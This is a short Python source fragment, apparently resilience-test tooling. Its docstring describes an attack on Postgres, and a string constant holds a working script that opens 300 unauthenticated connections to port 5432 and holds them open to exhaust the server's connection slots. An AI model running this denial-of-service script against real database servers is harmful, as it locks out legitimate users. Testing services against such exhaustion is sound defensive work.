"""An attack on Postgres from within a location: connections that are opened and never sign in."""

KNOCK = """
import socket, struct, sys
words = b"user\\0stripe\\0database\\0warehouse\\0\\0"
hello = struct.pack("!II", len(words) + 8, 3 << 16) + words

def knock():
    door = socket.create_connection((sys.argv[1], 5432), 5)
    try:
        door.sendall(hello)
    except ConnectionError:
        pass
    return door

def is_asked_for_a_password(door):
    try:
        return door.recv(1) == b"R"
    except ConnectionError:
        return False

doors = [knock() for _ in range(300)]
print(sum(map(is_asked_for_a_password, doors)), flush=True)
sys.stdin.read()
"""
"""Prints how many of 300 got as far as the password, and keeps them until its standard input ends."""
